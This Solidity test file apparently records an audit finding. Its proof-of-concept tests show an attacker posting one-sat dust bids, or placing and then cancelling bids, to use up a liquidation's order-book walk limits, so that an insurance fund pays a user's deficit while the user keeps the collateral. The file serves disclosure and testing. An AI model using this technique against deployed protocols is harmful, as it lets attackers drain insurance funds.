// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {VaultproofDeploy} from "./utils/Deploy.sol";
import {IBalanceManagerVault} from "../../contracts/interfaces/IBalanceManagerVault.sol";

/// @notice Finding against DEBT-2 ("insurance pays only after the user's free USDC and floor-clearing
/// collateral are used"), on the bytecode with the real OrderBook. Why DEBT-2 is not proved on code.
/// @dev A liquidation sells each collateral in ONE bounded walk of the book: at most MAX_LEVELS_PER_ORDER (16)
/// price levels and MAX_ORDER_VISITS (64) queue entries, cancelled ones included (they stay in the queue
/// until a walk steps past them). Whoever can post bids can spend both bounds above the real liquidity:
/// 16 one-sat bids at 16 prices above the floor, or 63 placed-and-cancelled bids (refunded: they cost gas
/// only) ahead of one live one-sat bid. The walk then sells a few sats; the insurance fund pays the rest of
/// the deficit while a bid above the floor for all of the user's WBTC rests untouched, and the user keeps
/// the collateral that should have covered the deficit. The user can be the one who posts the bids.
/// Alice: $100 USDC locked CROSS, 0.01 WBTC free; a close at −$600 leaves a $500 deficit; the WBTC floor is
/// $80,750 (oracle 85,000 × 95 %); MAKER bids $84,000 for 0.01 WBTC (≥ the floor: enough for the whole
/// deficit, as test_FullSaleCoversDeficit sells 0.00619196 WBTC into it).
contract Debt2BookBoundFindingTest is VaultproofDeploy {
    uint256 internal constant ALICE_WBTC = 1e6; // 0.01 WBTC
    uint256 internal constant REAL_BID = 84_000e6; // USDC per WBTC, ≥ the $80,750 floor
    uint256 internal constant DUST_PRICE = 85_000e6; // above the real bid: walked first
    uint256 internal constant DEFICIT = 500e6;

    bytes32 internal posA;

    function _afterDeploy() internal override {
        posA = _posKey(ALICE, 1);
        _deposit(ALICE, address(usdc), 100e6);
        _deposit(ALICE, address(wbtc), ALICE_WBTC);
        vault.allocateForPosition(ALICE, posA, MARKET, 100e6, IBalanceManagerVault.MarginMode.CROSS);
        _bid(MAKER, wbtcBook, REAL_BID, ALICE_WBTC);
    }

    /// The deficit goes to the fund although MAKER's bid above the floor could have covered all of it.
    function _liquidateAndAssertInsurancePaid(uint256 soldSats, uint256 proceeds) internal {
        vm.expectEmit(true, true, false, true, address(vault));
        emit IBalanceManagerVault.CollateralSold(ALICE, address(wbtc), soldSats, proceeds, proceeds);
        vm.expectEmit(true, false, false, true, address(vault));
        emit IBalanceManagerVault.DeficitSettled(ALICE, DEFICIT, 0, proceeds, DEFICIT - proceeds, 0, 0);
        vault.releaseFromPosition(ALICE, posA, -int256(100e6 + DEFICIT));
        vm.assertEq(_free(ALICE, address(wbtc)), ALICE_WBTC - soldSats, "Alice keeps all but a few sats");
        vm.assertEq(bm.getBalance(MAKER, address(wbtc)), 0, "the bid above the floor was never reached");
        vm.assertEq(wbtcBook.bestBid(), REAL_BID, "and still rests on the book");
        vm.assertEq(insurance.paidInBlock(), DEFICIT - proceeds, "the fund paid the rest of the deficit");
    }

    /// 16 levels of one sat each: the walk's level bound is spent on 16 sats (16 × ⌊85,000e6 / 1e8⌋ = 13,600
    /// units = 0.0136 USDC); the fund pays 499.9864 USDC.
    function test_SixteenDustLevelsSpendTheLevelBound() public {
        for (uint256 k; k < wbtcBook.MAX_LEVELS_PER_ORDER(); ++k) {
            _bid(BOB, wbtcBook, DUST_PRICE + k * 1e6, 1);
        }
        uint256 proceeds;
        for (uint256 k; k < 16; ++k) {
            proceeds += (DUST_PRICE + k * 1e6) / 1e8; // ⌊1 sat × price / 1e8⌋ per fill
        }
        _liquidateAndAssertInsurancePaid(16, proceeds);
    }

    /// 63 cancelled bids ahead of one live one-sat bid at one price: the walk's visit bound is spent on dead
    /// queue entries; one sat (850 units = 0.00085 USDC) is sold and the fund pays 499.99915 USDC. The 63
    /// cancellations are refunded in full: the attack costs gas and 0.00085 USDC.
    function test_CancelledOrdersSpendTheVisitBound() public {
        uint256 dead = wbtcBook.MAX_ORDER_VISITS() - 1;
        uint256[] memory ids = new uint256[](dead);
        for (uint256 k; k < dead; ++k) {
            ids[k] = _bid(BOB, wbtcBook, DUST_PRICE, 1);
        }
        _bid(BOB, wbtcBook, DUST_PRICE, 1);
        vm.startPrank(BOB);
        for (uint256 k; k < dead; ++k) {
            wbtcBook.cancelOrder(ids[k]);
        }
        vm.stopPrank();
        _liquidateAndAssertInsurancePaid(1, DUST_PRICE / 1e8);
    }
}
